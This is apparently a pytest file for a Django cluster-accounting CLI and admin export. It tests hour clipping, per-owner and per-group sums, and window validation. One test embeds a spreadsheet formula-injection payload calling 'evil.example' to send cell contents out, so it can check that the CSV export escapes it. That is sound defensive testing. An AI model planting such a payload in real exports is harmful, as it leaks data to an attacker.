"""Accounting: ``manage.py clusters usage`` — per owner, group or cluster, the clusters that lived in a window,
their hours (a VLAN each) and their nodes' hours, clipped to the window; and a removed node's time is kept."""
# ruff: noqa: F401, F811 (pytest fixtures imported from access.tests.fixtures are parameters here)

from __future__ import annotations

import csv
from datetime import datetime, timedelta
from io import StringIO

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.utils import timezone

from access.tests.fixtures import make_cluster
from clusters.models import Node, VirtualCluster

pytestmark = pytest.mark.django_db


def _at(hours: float) -> datetime:
    from datetime import UTC

    return datetime(2026, 11, 1, tzinfo=UTC) + timedelta(hours=hours)


def _usage(*args) -> list[dict]:
    out = StringIO()
    call_command("clusters", "usage", *args, stdout=out)
    return list(csv.DictReader(StringIO(out.getvalue())))


def test_hours_are_clipped_to_the_window_and_summed_per_owner_and_group(alice, bob, team):
    # alice: 10 h inside the window with 2 nodes (one removed after 4 h), and one that began 5 h before the window
    a = make_cluster(alice, name="a", group=team, state="torn_down", nodes=("n1", "n2"))
    VirtualCluster.objects.filter(pk=a.pk).update(created_at=_at(10), ended_at=_at(20))
    Node.objects.filter(cluster=a).update(created_at=_at(10))
    Node.objects.filter(cluster=a, name="n2").update(removed_at=_at(14))
    Node.objects.filter(cluster=a, name="n1").update(removed_at=_at(20))
    early = make_cluster(alice, name="early", state="torn_down")
    VirtualCluster.objects.filter(pk=early.pk).update(created_at=_at(-5), ended_at=_at(3))
    Node.objects.filter(cluster=early).update(created_at=_at(-5), removed_at=_at(3))
    # bob: ended before the window (not counted)
    gone = make_cluster(bob, name="gone", state="torn_down")
    VirtualCluster.objects.filter(pk=gone.pk).update(created_at=_at(-20), ended_at=_at(-10))

    rows = _usage("--since", "2026-11-01T00:00Z", "--until", "2026-11-02T00:00Z")
    assert rows == [{"owner": "alice", "clusters": "2", "cluster_hours": "13.0", "node_hours": "17.0"}]
    # (a: 10 h, 10 + 4 node-hours; early: 3 h of 8 inside, 3 node-hours)
    by_group = {r["group"]: r for r in _usage("--since", "2026-11-01T00:00Z", "--until", "2026-11-02", "--by", "group")}
    assert by_group[team.name]["cluster_hours"] == "10.0" and by_group[""]["cluster_hours"] == "3.0"
    per_cluster = _usage("--since", "2026-11-01T00:00Z", "--until", "2026-11-02T00:00Z", "--by", "cluster")
    assert [(r["name"], r["node_hours"], r["ended_at"]) for r in per_cluster] == [
        ("a", "14.0", "2026-11-01T20:00:00+00:00"),
        ("early", "3.0", "2026-11-01T03:00:00+00:00"),
    ]


def test_a_job_id_a_spreadsheet_would_run_is_text_in_the_csv(alice):
    """A user picks their cluster's job id: one that starts like a formula gets a leading ' (a spreadsheet that
    opens the accounting export shows it, and runs nothing)."""
    payload = '=HYPERLINK("http://evil.example/?"&A2,"x")'
    c = make_cluster(alice, name="c", state="torn_down")
    VirtualCluster.objects.filter(pk=c.pk).update(created_at=_at(1), ended_at=_at(2), job_id=payload)
    d = make_cluster(alice, name="d", state="torn_down")
    VirtualCluster.objects.filter(pk=d.pk).update(created_at=_at(1), ended_at=_at(2), job_id="12345.pbs")
    rows = _usage("--since", "2026-11-01T00:00Z", "--until", "2026-11-02T00:00Z", "--by", "cluster")
    assert {r["name"]: r["job_id"] for r in rows} == {"c": "'" + payload, "d": "12345.pbs"}
    assert rows[0]["cluster_hours"] == "1.0"


def test_a_live_cluster_counts_until_now_and_a_removed_nodes_time_is_kept(fabric_live):
    cluster, _node = fabric_live
    rows = _usage("--since", (timezone.now() - timedelta(hours=2)).isoformat(), "--by", "cluster")
    [row] = [r for r in rows if r["name"] == cluster.name]
    assert 0.99 < float(row["cluster_hours"]) < 1.01 and row["ended_at"] == ""
    assert 0.49 < float(row["node_hours"]) - 1.0 < 0.51  # n1: 1 h, the removed n2: 0.5 h


@pytest.fixture
def fabric_live(transactional_db, tmp_path, alice):
    """A live cluster made an hour ago with two nodes, one removed through the service half an hour after."""
    from clusters import services
    from clusters.tests.helpers import client_for, create_cluster
    from network.tests.fakefabric import build_fabric

    build_fabric(tmp_path / "devices")
    cid = create_cluster(alice, "live", "52:54:00:00:00:01", host="brno1")
    client_for(alice).post(
        f"/api/clusters/{cid}/nodes/",
        {"nodes": [{"name": "n2", "host": "brno2", "mac": "52:54:00:00:00:02"}]},
        format="json",
    )
    cluster = VirtualCluster.objects.get(pk=cid)
    node = cluster.nodes.get(name="n2")
    services.cluster_node_remove(cluster=cluster, node=node)
    node.refresh_from_db()
    assert node.removed_at is not None  # removed through the service: its time is recorded
    now = timezone.now()
    VirtualCluster.objects.filter(pk=cid).update(created_at=now - timedelta(hours=1))
    Node.objects.filter(cluster=cluster, name="n1").update(created_at=now - timedelta(hours=1))
    Node.objects.filter(pk=node.pk).update(created_at=now - timedelta(hours=1), removed_at=now - timedelta(minutes=30))
    return cluster, node


def test_bad_windows_are_refused():
    with pytest.raises(CommandError, match="not an ISO 8601 time"):
        _usage("--since", "yesterday")
    with pytest.raises(CommandError, match="--until must come after --since"):
        _usage("--since", "2026-11-02T00:00Z", "--until", "2026-11-01T00:00Z")


def test_a_teardown_records_when_its_nodes_left(fabric_live):
    from clusters.tests.helpers import client_for

    cluster, removed = fabric_live
    before = Node.objects.get(pk=removed.pk).removed_at
    assert client_for(cluster.owner).post(f"/api/clusters/{cluster.pk}/teardown/", {}, format="json").status_code == 202
    cluster.refresh_from_db()
    assert cluster.ended_at is not None
    assert Node.objects.get(cluster=cluster, name="n1").removed_at == cluster.ended_at
    assert Node.objects.get(pk=removed.pk).removed_at == before  # (removed before: its own time stays)


def test_the_admin_exports_the_usage_of_the_clusters_picked(alice, bob, root, client):
    a = make_cluster(alice, name="a", state="torn_down")
    VirtualCluster.objects.filter(pk=a.pk).update(created_at=_at(0), ended_at=_at(2))
    Node.objects.filter(cluster=a).update(created_at=_at(0), removed_at=_at(2))
    b = make_cluster(bob, name="b", state="torn_down")
    VirtualCluster.objects.filter(pk=b.pk).update(created_at=_at(1), ended_at=_at(4))
    Node.objects.filter(cluster=b).update(created_at=_at(1))  # (removed with its cluster: its end counts)
    make_cluster(alice, name="not-picked", state="torn_down")
    client.force_login(root)
    r = client.post("/admin/clusters/virtualcluster/", {"action": "export_usage", "_selected_action": [a.pk, b.pk]})
    assert r.status_code == 200 and r["Content-Type"].startswith("text/csv")
    assert r["Content-Disposition"].startswith('attachment; filename="virtcloud-usage-')
    rows = list(csv.DictReader(StringIO(r.content.decode())))
    assert [(row["name"], row["owner"], row["cluster_hours"], row["node_hours"]) for row in rows] == [
        ("a", "alice", "2.0", "2.0"),
        ("b", "bob", "3.0", "3.0"),
    ]


def test_a_window_not_begun_yet_has_no_usage(alice):
    """``clusters usage --since 2030-01-01 --until 2030-02-01``: every live cluster was listed, with 0 hours, for a
    window that had not begun."""
    from clusters import selectors

    make_cluster(alice, name="live")
    later = timezone.now() + timedelta(days=400)
    assert selectors.usage(later, later + timedelta(days=31)) == []
